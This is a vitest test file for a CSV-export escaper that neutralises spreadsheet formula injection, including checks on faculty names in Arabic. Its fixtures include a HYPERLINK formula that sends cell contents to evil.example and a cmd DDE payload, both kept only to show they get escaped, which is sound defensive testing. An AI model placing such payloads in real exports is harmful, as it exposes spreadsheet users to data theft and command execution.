import { describe, expect, it } from 'vitest';
import { csvSafeCell, csvSafeTable, FORMULA_NAME_MESSAGE, startsLikeFormula } from './csv';

describe('csvSafeCell: a cell a spreadsheet would read as a formula is written as text', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A2&B2,"x")', `'=HYPERLINK("http://evil.example/?d="&A2&B2,"x")`],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['＝1+1', "'＝1+1"],
    // Numbers and the score placeholder stay as they are: a spreadsheet reads them as values.
    ['-', '-'],
    ['-5', '-5'],
    ['+5', '+5'],
    ['12.5', '12.5'],
    ['', ''],
    ['كلية الطب', 'كلية الطب'],
    ['a=b', 'a=b'],
  ])('%j → %j', (cell, written) => expect(csvSafeCell(cell)).toBe(written));

  it('csvSafeTable escapes every cell of every row', () => {
    expect(
      csvSafeTable([
        ['faculty_name', 'score'],
        ['=1+1', '-'],
      ]),
    ).toEqual([
      ['faculty_name', 'score'],
      ["'=1+1", '-'],
    ]);
  });
});

describe('startsLikeFormula: a name may not start with = + - @', () => {
  it.each([
    ['=HYPERLINK("x")', true],
    [' =1', true],
    ['+كلية', true],
    ['-كلية', true],
    ['@كلية', true],
    ['＝كلية', true],
    ['كلية الطب', false],
    ['Faculty of Medicine - Cairo', false],
    ['', false],
  ])('%j → %s', (name, refused) => expect(startsLikeFormula(name)).toBe(refused));

  it('has an Arabic message', () => expect(FORMULA_NAME_MESSAGE).toMatch(/[\u0600-\u06FF]/));
});
